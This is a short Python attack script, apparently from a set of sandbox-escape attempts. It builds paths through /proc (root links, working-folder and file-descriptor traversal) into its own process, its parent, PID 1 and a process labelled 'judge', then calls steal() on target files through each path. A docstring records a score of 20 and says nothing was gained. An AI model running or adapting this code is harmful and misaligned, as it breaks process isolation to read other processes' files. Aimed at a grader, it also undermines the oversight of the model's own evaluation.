"""Go to others' files through /proc: roots, working folders and descriptors.

gains: nothing
score: 20
outcome: completed
"""

import os

from kit import TARGETS, drive, steal

doors = [f"/proc/{pid}/{way}" for pid in ("self", os.getppid(), TARGETS.get("judge", 1), 1)
         for way in ("root", "cwd/../../../../..", "task/self/root")]  # fmt: skip
doors += [f"/proc/self/fd/{fd}/../../../../.." for fd in range(256)]
for path in TARGETS.get("files", ()):
    for door in doors:
        steal(f"{door}{path}")
drive()
